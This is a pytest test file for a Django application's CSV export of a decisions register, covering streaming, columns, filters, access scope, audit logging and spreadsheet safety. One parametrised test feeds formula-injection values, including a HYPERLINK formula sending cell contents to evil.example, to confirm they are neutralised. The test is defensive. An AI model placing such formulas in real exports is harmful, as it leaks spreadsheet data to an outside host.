"""The CSV export: every state flag its own column, the register's rows, streamed, safe in a spreadsheet."""

from __future__ import annotations

import csv
import hashlib
import io

import pytest
from django.http import StreamingHttpResponse

from isg.audit.models import AuditEvent
from isg.decisions.models import Decision
from isg.exports import csv as csv_export
from isg.exports.models import ExportJob
from isg.flowchart.services import current_flowchart
from isg.register import search
from tests.factories import make_decision

from .conftest import body, client_for, post_export

pytestmark = pytest.mark.django_db


def read(response) -> list[dict]:
    raw = body(response)
    assert raw.startswith(b"\xef\xbb\xbf"), "UTF-8 with a byte-order mark, for spreadsheet apps"
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def test_the_csv_streams_with_a_bom_and_every_state_flag_column(people, decisions):
    response = post_export(client_for(people["lscb"]), "csv")
    assert response.status_code == 200
    assert isinstance(response, StreamingHttpResponse) and response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="isg-decisions-')
    assert "no-store" in response["Cache-Control"]
    rows = read(response)
    columns = list(rows[0])
    for fixed in ("public_id", "case_reference", "agency", "practitioner", "status", "outcome", "outcome_title",
                  "requires_approval", "emergency", "overdue", "submitted_at", "flowchart_version",
                  "flowchart_sha256", "approval_decided_by", "approval_decided_at"):
        assert fixed in columns
    variables = list(current_flowchart().variables)
    assert [c for c in columns if c.startswith("state.")] == [f"state.{v}" for v in variables]
    # The submitted decisions, newest first; never the draft.
    submitted = [decisions[n] for n in ("serious", "emergency", "limited", "consent")]
    assert [r["public_id"] for r in rows] == [str(d.public_id) for d in submitted]
    for row, decision in zip(rows, submitted, strict=True):
        assert row["case_reference"] == decision.case_reference
        assert row["practitioner"] == decision.owner.username
        assert row["outcome"] == decision.outcome and row["outcome_title"]
        assert row["flowchart_sha256"] == decision.flowchart_id
        for name in variables:
            value = decision.state.get(name)
            expected = "" if value is None else ("true" if value is True else "false" if value is False else value)
            assert row[f"state.{name}"] == expected, name
    emergency = next(r for r in rows if r["case_reference"] == "SOUTH-1")
    assert emergency["emergency"] == "true" and emergency["requires_approval"] == "true"
    assert emergency["status"] == Decision.Status.AWAITING_APPROVAL
    assert next(r for r in rows if r["case_reference"] == "NORTH-1")["state.consent_status"] == "given"


@pytest.mark.parametrize(("query", "expected"), [
    ("agency=north", {"consent", "limited"}),
    ("outcome=outcome_share_limited", {"limited"}),
    ("emergency=yes", {"emergency"}),
    ("flag=consent_status:given", {"consent"}),
    ("q=SOUTH-2", {"serious"}),
])
def test_the_rows_are_the_registers_for_the_filter(people, decisions, query, expected):
    rows = read(post_export(client_for(people["lscb"]), "csv", query))
    assert {r["public_id"] for r in rows} == {str(decisions[n].public_id) for n in expected}


def test_a_page_cursor_in_the_query_is_not_part_of_the_filter(people, decisions):
    rows = read(post_export(client_for(people["lscb"]), "csv", "agency=south&cursor=whatever"))
    assert {r["case_reference"] for r in rows} == {"SOUTH-1", "SOUTH-2"}


def test_a_manager_exports_only_their_scope(people, decisions):
    rows = read(post_export(client_for(people["manager"]), "csv"))
    assert {r["case_reference"] for r in rows} == {"NORTH-1", "NORTH-2"}


@pytest.mark.parametrize("reference", [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1", "-1", "@SUM(A1:A2)", "\tTAB", "\rCR",
])
def test_formula_injection_is_neutralised(people, reference):
    make_decision(people["pat"], "outcome_share_with_consent", submit=True, case_reference=reference)
    rows = read(post_export(client_for(people["lscb"]), "csv"))
    assert [r["case_reference"] for r in rows] == ["'" + reference]


def test_safe_cell():
    assert csv_export.safe_cell("=1+1") == "'=1+1"
    assert csv_export.safe_cell("a=b") == "a=b"
    assert csv_export.safe_cell(True) == "true" and csv_export.safe_cell(None) == ""
    # quoting: commas, quotes and new lines stay inside their cell
    make = csv.writer(csv_export._Line(), quoting=csv.QUOTE_ALL, lineterminator="\r\n")
    line = make.writerow([csv_export.safe_cell('a, "b"\nc')])
    assert line == '"a, ""b""\nc"\r\n'


def test_a_small_export_is_audited_with_its_filter_and_count_and_no_search_words(people, decisions):
    post_export(client_for(people["lscb"]), "csv", "agency=north&q=NORTH")
    event = AuditEvent.objects.filter(subject_type="export").get()
    assert event.action == "exported" and event.actor == people["lscb"]
    assert event.payload["kind"] == "csv" and event.payload["mode"] == "sync" and event.payload["count"] == 2
    assert event.payload["filter"]["agency"] == "north" and "q" not in event.payload["filter"]
    # The words as a register search records them: a keyed hash (a list of names hashed with plain
    # sha256 would find them) and how many words.
    assert event.payload["filter"]["search_hmac"] == search.digest("NORTH")
    assert event.payload["filter"]["search_hmac"] != hashlib.sha256(b"NORTH").hexdigest()
    assert event.payload["filter"]["search_words"] == 1 and "NORTH" not in str(event.payload)
    assert not ExportJob.objects.exists(), "small exports leave no job and no file"


def test_the_get_page_says_what_would_be_exported(people, decisions):
    response = client_for(people["lscb"]).get("/exports/csv/?agency=north")
    text = response.content.decode()
    assert response.status_code == 200
    assert "2 decisions match" in text and 'name="filter" value="agency=north"' in text
    assert not AuditEvent.objects.filter(subject_type="export").exists(), "looking is not exporting"


def test_a_bad_filter_is_refused_with_a_reason(people, decisions):
    response = post_export(client_for(people["lscb"]), "csv", "agency=nowhere")
    assert response.status_code == 400
    assert "There is no agency" in response.content.decode()
    assert not AuditEvent.objects.filter(subject_type="export").exists()


def test_constant_memory_shape_of_the_query():
    """The rows are read as values through an iterator: no model instances, no `path` column."""
    assert "path" not in csv_export.VALUES
    assert csv_export.CHUNK_SIZE >= 1000
